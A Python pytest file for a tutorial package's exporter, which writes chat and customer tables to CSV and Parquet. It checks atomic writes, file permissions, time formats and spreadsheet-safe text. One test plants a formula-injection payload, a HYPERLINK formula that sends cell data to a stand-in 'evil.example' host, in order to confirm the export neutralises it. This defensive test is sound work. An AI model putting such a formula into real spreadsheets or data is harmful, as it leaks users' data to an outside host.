"""The tables as files: whole or none, private, harmless in a spreadsheet, exact in Parquet."""

import csv
import json
import os
import re
import stat
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from answers import body, chat
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lc_tutorial.errors import InputError
from lc_tutorial.files import NewFolder
from lc_tutorial.tables.export import FORMULA_STARTS, export, personal_data
from lc_tutorial.tables.frames import Tables, tables


def frames_of(made: Tables) -> dict[str, pd.DataFrame]:
    return {"chats": made.chats, "users": made.users, "events": made.events, "tags": made.tags}


@pytest.fixture
def frames() -> dict[str, pd.DataFrame]:
    mixed = chat("B")
    mixed["properties"]["crm"]["tier"] = 7  # "gold" in the other one: a column of both
    return frames_of(tables(body(chat("A"), mixed, {"id": "C"})))


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def left_behind(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def test_each_table_is_there_twice(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    made = export(frames, tmp_path / "mine")
    names = {f"{name}.{kind}" for name in frames for kind in ("csv", "parquet")} | {"README.txt"}
    assert {*left_behind(made.folder)} == names
    assert [(each.table, each.rows) for each in made.written] == [
        (name, len(frame)) for name, frame in frames.items()
    ]
    for each in made.written:
        for kind, size in (("csv", each.csv), ("parquet", each.parquet)):
            assert (made.folder / f"{each.table}.{kind}").stat().st_size == size
    assert left_behind(tmp_path) == ["mine"]


@pytest.mark.parametrize("answer", [body(chat("A"), chat("B"), {"id": "C"}), body()])
def test_parquet_keeps_values_and_dtypes(answer: bytes, tmp_path: Path) -> None:
    frames = frames_of(tables(answer))
    folder = export(frames, tmp_path / "mine").folder
    for name, frame in frames.items():
        read = pd.read_parquet(folder / f"{name}.parquet")
        lists = [column for column in frame if frame[column].dtype == object]
        assert read.drop(columns=lists).dtypes.astype(str).to_dict() == (
            frame.drop(columns=lists).dtypes.astype(str).to_dict()
        )
        # The dtypes are the same; text may be kept by pyarrow now, in place of Python.
        pd.testing.assert_frame_equal(
            read.drop(columns=lists),
            frame.drop(columns=lists),
            check_dtype=False,
            check_categorical=False,
        )
        for column in lists:
            assert read[column].dtype == "string"
            assert [*map(json.loads, read[column])] == [*map(list, frame[column])]


def test_tables_write_all_of_them(tmp_path: Path) -> None:
    made = tables(body(chat("A"))).export(tmp_path / "mine")
    names = ["chats", "users", "threads", "events", "tags", "problems", "unknown"]
    assert [each.table for each in made.written] == names
    with pytest.raises(InputError, match="replace=True"):
        tables(body()).export(tmp_path / "mine")
    assert tables(body()).export(tmp_path / "mine", replace=True).written[0].rows == 0


def test_lists_and_mixed_values_are_json_in_both(
    frames: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    folder = export(frames, tmp_path / "mine").folder
    rows = cells(folder / "chats.csv")
    read = pd.read_parquet(folder / "chats.parquet")
    assert [row["last_thread_tags"] for row in rows] == ['["refund","support"]'] * 2 + ["[]"]
    assert [*read["last_thread_tags"]] == [row["last_thread_tags"] for row in rows]
    assert [row["properties.crm.tier"] for row in rows] == ['"gold"', "7", ""]
    assert read["properties.crm.tier"].isna().tolist() == [False, False, True]


@pytest.mark.parametrize("begin", FORMULA_STARTS)
def test_no_text_is_a_formula(begin: str, tmp_path: Path) -> None:
    evil = f'{begin}HYPERLINK("https://evil.example/?"&A1)'
    told = chat("A")
    told["last_event_per_type"]["message"]["event"]["text"] = evil
    told["users"][0]["visit"]["geolocation"]["city"] = evil
    told["users"][0]["phone_number"] = "+48123456789"
    told["users"][0]["visit"]["geolocation"]["longitude"] = "-17.5"
    folder = export(frames_of(tables(body(told))), tmp_path / "mine").folder
    event, user = cells(folder / "events.csv")[0], cells(folder / "users.csv")[0]
    assert event["text"] == user["city"] == f"'{evil}"
    assert user["phone_number"] == "'+48123456789"
    assert user["longitude"] == "-17.5", "a number is no formula"
    assert pd.read_parquet(folder / "events.parquet")["text"][0] == evil
    assert pd.read_parquet(folder / "users.parquet")["city"][0] == evil


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("12E4567890", "'12E4567890"),
        ("1.5e3", "'1.5e3"),
        ("12345678901234567", "'12345678901234567"),
        ("0048123456789", "'0048123456789"),
        ("007", "'007"),
        (" 007", "' 007"),
        ("1-2", "'1-2"),
        ("3/4/2026", "'3/4/2026"),
        ("1.5", "'1.5"),
        ("2026-05", "'2026-05"),
        ("MAR1", "'MAR1"),
        ("1 May 2026", "'1 May 2026"),
        # These say the same in a spreadsheet.
        ("PJ0MRSHTDG", "PJ0MRSHTDG"),
        ("0", "0"),
        ("42", "42"),
        ("2026-05-12", "2026-05-12"),
        ("12:30", "12:30"),
        ("decade 5", "decade 5"),
        ("1-2-3-4", "1-2-3-4"),
        ("127.0.0.1", "127.0.0.1"),
        ("May I help you?", "May I help you?"),
    ],
)
def test_no_text_is_changed_by_a_spreadsheet(text: str, cell: str, tmp_path: Path) -> None:
    texts = pd.array([text], dtype="string")
    frame = pd.DataFrame({"text": texts, "category": pd.Categorical(texts)})
    folder = export({"t": frame}, tmp_path / "mine").folder
    assert cells(folder / "t.csv") == [{"text": cell, "category": cell}]
    assert pd.read_parquet(folder / "t.parquet")["text"][0] == text


def test_long_whole_numbers_keep_their_digits(tmp_path: Path) -> None:
    numbers = pd.array([10**15 - 1, 2**62, -(2**62), None], dtype="Int64")
    folder = export({"t": pd.DataFrame({"n": numbers, "m": 1})}, tmp_path / "mine").folder
    written = [row["n"] for row in cells(folder / "t.csv")]
    assert written == ["999999999999999", f"'{2**62}", f"'{-(2**62)}", ""]
    assert [*pd.read_parquet(folder / "t.parquet")["n"]][:3] == [*numbers][:3]


# --- Times --------------------------------------------------------------------------------------

_INSTANTS = ["2026-05-12T12:31:46.463999Z", "2026-05-12T12:31:46Z", "2026-05-12T00:00:00Z"]


def test_times_have_one_form_that_spreadsheets_read(tmp_path: Path) -> None:
    """In all rows and columns, whatever is in the column; and README says that it is UTC."""
    whole = pd.Series(pd.to_datetime(_INSTANTS, format="ISO8601", utc=True))
    frame = pd.DataFrame(
        {
            "all": whole,
            "midnight": pd.Series([whole[2]] * 3),
            "elsewhere": whole.dt.tz_convert("Asia/Kolkata"),
            "without_a_zone": whole.dt.tz_localize(None),
            "some": pd.Series([whole[0], pd.NaT, whole[1]]),
            "none": pd.Series([pd.NaT] * 3, dtype="datetime64[us, UTC]"),
        }
    )
    folder = export({"t": frame}, tmp_path / "mine").folder
    first, second, third = "2026-05-12 12:31:46", "2026-05-12 12:31:46", "2026-05-12 00:00:00"
    assert [[*row.values()] for row in cells(folder / "t.csv")] == [
        [first, third, first, first, first, ""],
        [second, third, second, second, "", ""],
        [third, third, third, third, second, ""],
    ]
    about = (folder / "README.txt").read_text()
    assert "Times are in UTC, to the second: 2026-05-12 12:31:46." in about
    read = pd.read_parquet(folder / "t.parquet")
    assert [*read["all"]] == [*whole], "exact"
    assert [*read["elsewhere"]] == [*whole]


def test_the_times_of_chats_have_that_form(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    folder = export(frames, tmp_path / "mine").folder
    form = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d")
    for name, frame in frames.items():
        times = [*frame.select_dtypes("datetimetz")]
        for row in cells(folder / f"{name}.csv"):
            assert all(form.fullmatch(row[column]) or not row[column] for column in times)


def test_durations_and_days_can_be_reckoned_with(tmp_path: Path) -> None:
    whole = pd.Series(pd.to_datetime(_INSTANTS, format="ISO8601", utc=True))
    frame = pd.DataFrame(
        {"lasted": whole - whole[2], "day": whole.dt.date, "yes": [True, False, True]}
    )
    frame.loc[2, "day"] = None
    folder = export({"t": frame}, tmp_path / "mine").folder
    assert [[*row.values()] for row in cells(folder / "t.csv")] == [
        ["45106.463999", "2026-05-12", "True"],
        ["45106.0", "2026-05-12", "False"],
        ["0.0", "", "True"],
    ]
    assert [*pd.read_parquet(folder / "t.parquet")["lasted"]] == [*frame["lasted"]]


@settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(st.text(st.characters(codec="utf-8")), min_size=1))
def test_any_text_comes_back(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    frame = pd.DataFrame(
        {
            "text": pd.array(texts, dtype=pd.StringDtype("python")),
            "category": pd.Categorical(texts),
            "number": pd.array([*range(len(texts))], dtype="Int64"),
        }
    )
    folder = export({"t": frame}, tmp_path_factory.mktemp("any") / "mine").folder
    read = pd.read_parquet(folder / "t.parquet")
    assert [*read["text"]] == [*read["category"]] == texts
    rows = cells(folder / "t.csv")
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts, strict=True):
        assert row["text"] == row["category"]
        assert not row["text"].startswith(FORMULA_STARTS)
        assert row["text"] in (text, f"'{text}")


def test_a_spreadsheet_knows_the_encoding(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    folder = export(frames, tmp_path / "mine").folder
    assert (folder / "users.csv").read_bytes().startswith(b"\xef\xbb\xbfchat_id,")
    # And pandas is not put off by the mark.
    assert pd.read_csv(folder / "users.csv")["city"][0] == "Wrocław"


@pytest.mark.skipif(os.name == "nt", reason="modes of files are another thing there")
def test_nobody_else_can_read_it(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    folder = export(frames, tmp_path / "mine").folder
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}


def test_it_says_that_the_data_are_personal(
    frames: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    made = export(frames, tmp_path / "mine")
    assert personal_data() in repr(made)
    assert "your customers&#x27; personal data" in made._repr_html_()
    assert personal_data() in (made.folder / "README.txt").read_text()
    assert str(tmp_path) not in repr(made) + made._repr_html_()


def test_an_earlier_export_stays_unless_it_may_go(
    frames: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    folder = export(frames, tmp_path / "mine").folder
    before = {path: path.read_bytes() for path in folder.iterdir()}
    with pytest.raises(InputError, match="replace=True"):
        export(frames, folder)
    assert {path: path.read_bytes() for path in folder.iterdir()} == before
    export({"chats": frames["chats"].head(1)}, folder, replace=True)
    assert left_behind(folder) == ["README.txt", "chats.csv", "chats.parquet"]
    assert len(cells(folder / "chats.csv")) == 1
    assert left_behind(tmp_path) == ["mine"]


@pytest.mark.parametrize("replace", [False, True])
@pytest.mark.parametrize(
    "strangers",
    [
        ["thesis.docx"],
        ["chats.csv"],
        ["README.txt", "sub/x.csv"],
        ["README.txt", "chats.csv", "chats.parquet"],
    ],
)
def test_what_is_no_export_is_never_touched(
    frames: dict[str, pd.DataFrame], tmp_path: Path, strangers: list[str], replace: bool
) -> None:
    folder = tmp_path / "mine"
    for name in strangers:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("years of work")
    with pytest.raises(InputError, match="holds something else"):
        export(frames, folder, replace=replace)
    assert all((folder / name).read_text() == "years of work" for name in strangers)
    assert left_behind(tmp_path) == ["mine"]


@pytest.mark.parametrize("name", ["customers.csv", "chats (2).csv", "model.parquet"])
def test_what_was_laid_into_an_export_stays(
    frames: dict[str, pd.DataFrame], tmp_path: Path, name: str
) -> None:
    folder = export(frames, tmp_path / "mine").folder
    (folder / name).write_text("years of work")
    with pytest.raises(InputError, match="holds something else") as caught:
        export(frames, folder, replace=True)
    assert name in str(caught.value)
    assert (folder / name).read_text() == "years of work"


def test_columns_that_were_added_are_written_as_they_are(
    frames: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    added = pd.DataFrame(
        {
            "text": pd.Series(["delivery", None, float("nan"), pd.NA], dtype=object),
            "mixed": pd.Series(["1", 1, np.int64(2), pd.Timestamp("2026-01-01")], dtype=object),
            "lists": pd.Series([("a",), [], np.array([1, 2]), None], dtype=object),
            "nothing": pd.Series([pd.NA] * 4, dtype=object),
        }
    )
    folder = export({**frames, "added": added}, tmp_path / "mine").folder
    there = cells(folder / "added.csv")
    assert [row["text"] for row in there] == ["delivery", "", "", ""]
    assert [row["mixed"] for row in there] == ['"1"', "1", "2", '"2026-01-01 00:00:00"']
    assert [row["lists"] for row in there] == ['["a"]', "[]", "[1,2]", ""]
    back = pd.read_parquet(folder / "added.parquet")
    assert back["text"].isna().tolist() == [False, True, True, True]
    assert back["nothing"].isna().all()


def test_a_file_is_no_folder(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("years of work")
    with pytest.raises(InputError, match="mine is a file"):
        export(frames, tmp_path / "mine", replace=True)
    assert (tmp_path / "mine").read_text() == "years of work"


def test_an_empty_folder_will_do(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    assert len(left_behind(export(frames, tmp_path / "mine").folder)) == 2 * len(frames) + 1


@pytest.mark.parametrize("replace", [False, True])
def test_whole_or_not_at_all(
    frames: dict[str, pd.DataFrame],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    replace: bool,
) -> None:
    folder = tmp_path / "mine"
    if replace:
        export(frames, folder)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    written = pd.DataFrame.to_parquet

    def disk_is_full(frame: pd.DataFrame, *args: Any, **options: Any) -> Any:
        if len(frame) == len(frames["tags"]):
            raise OSError(28, "No space left on device")
        return written(frame, *args, **options)

    monkeypatch.setattr(pd.DataFrame, "to_parquet", disk_is_full)
    with pytest.raises(OSError, match="No space"):
        export(frames, folder, replace=replace)
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before
    assert left_behind(tmp_path) == (["mine"] if replace else [])


def leave_behind(folder: Path, name: str) -> Path:
    """What a program leaves that is killed while it makes an export."""
    workshop = folder / ".lc_tutorial-folder-0123abcd"
    (workshop / "new").mkdir(parents=True)
    (workshop / "new" / "chats.csv").write_text("half of")
    (workshop / "name").write_text(name)
    return workshop


def test_what_a_killed_export_has_left_goes_and_is_named(
    frames: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    export(frames, tmp_path / "yesterday")
    leave_behind(tmp_path, "yesterday")
    made = export(frames, tmp_path / "today")
    assert left_behind(tmp_path) == ["today", "yesterday"]
    note = "An earlier export of yesterday was interrupted. The hidden files that it had left"
    assert note in repr(made)
    assert note in made._repr_html_()
    assert export(frames, tmp_path / "today", replace=True).notes == ()


def test_an_export_that_was_set_aside_by_a_killed_one_is_back(
    frames: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    folder = export(frames, tmp_path / "mine").folder
    folder.rename(leave_behind(tmp_path, "mine") / "old")
    with pytest.raises(InputError, match="holds an earlier export"):
        export(frames, folder)
    assert len(cells(folder / "chats.csv")) == len(frames["chats"])
    assert left_behind(tmp_path) == ["mine"]


def test_what_was_laid_into_an_export_while_the_next_was_written_stays(
    frames: dict[str, pd.DataFrame], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = export(frames, tmp_path / "mine").folder
    put = NewFolder.put

    def lay_in(new: NewFolder, check: Any) -> None:
        (folder / "thesis.docx").write_text("years of work")
        put(new, check)

    monkeypatch.setattr(NewFolder, "put", lay_in)
    with pytest.raises(InputError, match=r"The folder mine holds something else.*thesis\.docx"):
        export(frames, folder, replace=True)
    assert (folder / "thesis.docx").read_text() == "years of work"
    assert left_behind(tmp_path) == ["mine"]


def test_of_two_at_once_one_is_refused(
    frames: dict[str, pd.DataFrame], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put = NewFolder.put

    def be_late(new: NewFolder, check: Any) -> None:
        monkeypatch.setattr(NewFolder, "put", put)
        export({"chats": frames["chats"]}, tmp_path / "mine")
        put(new, check)

    monkeypatch.setattr(NewFolder, "put", be_late)
    with pytest.raises(InputError, match="holds an earlier export"):
        export(frames, tmp_path / "mine")
    assert left_behind(tmp_path / "mine") == ["README.txt", "chats.csv", "chats.parquet"]
    assert left_behind(tmp_path) == ["mine"]


@pytest.fixture
def hide_pyarrow(monkeypatch: pytest.MonkeyPatch) -> Callable[[], None]:
    """As where it is not installed."""

    def hide() -> None:
        for name in [name for name in sys.modules if name.startswith("pyarrow.")]:
            monkeypatch.delitem(sys.modules, name)
        monkeypatch.setitem(sys.modules, "pyarrow", None)

    return hide


def test_without_pyarrow_there_is_csv_and_it_is_said_what_is_missing(
    frames: dict[str, pd.DataFrame], tmp_path: Path, hide_pyarrow: Callable[[], None]
) -> None:
    both = export(frames, tmp_path / "both")
    hide_pyarrow()
    made = export(frames, tmp_path / "mine")
    names = {f"{name}.csv" for name in frames}
    assert {*left_behind(tmp_path / "mine")} == {*names, "README.txt"}
    for name in names:
        assert (tmp_path / "mine" / name).read_bytes() == (tmp_path / "both" / name).read_bytes()
    assert {each.parquet for each in made.written} == {None}
    assert [each.csv for each in made.written] == [each.csv for each in both.written]
    assert both.notes == ()
    (note,) = made.notes
    assert "Run `%pip install pyarrow` in a cell, and then this one again." in note
    for shown in repr(made), made._repr_html_():
        assert note in shown
        assert ".parquet" not in shown
    assert made._repr_html_().count("<th style='text-align:left' colspan='2'>") == 1
    about = (tmp_path / "mine" / "README.txt").read_text()
    assert "Each is here once:\n\n- .csv is" in about
    assert "parquet" not in about


def test_an_export_with_and_one_without_parquet_replace_each_other(
    frames: dict[str, pd.DataFrame],
    tmp_path: Path,
    hide_pyarrow: Callable[[], None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def suffixes() -> set[str]:
        return {Path(name).suffix for name in left_behind(tmp_path / "mine")}

    export(frames, tmp_path / "mine")
    assert suffixes() == {".csv", ".parquet", ".txt"}
    hide_pyarrow()
    export(frames, tmp_path / "mine", replace=True)
    assert suffixes() == {".csv", ".txt"}
    with pytest.raises(InputError, match="holds an earlier export"):
        export(frames, tmp_path / "mine")
    monkeypatch.undo()
    export(frames, tmp_path / "mine", replace=True)
    assert suffixes() == {".csv", ".parquet", ".txt"}


def test_no_tables_are_an_export_too(tmp_path: Path, hide_pyarrow: Callable[[], None]) -> None:
    assert "Written to the folder both" in export({}, tmp_path / "both")._repr_html_()
    hide_pyarrow()
    made = export({}, tmp_path / "mine")
    assert "Written to the folder mine" in made._repr_html_()
    assert "Each is here once" in (tmp_path / "mine" / "README.txt").read_text()
    export({}, tmp_path / "mine", replace=True)
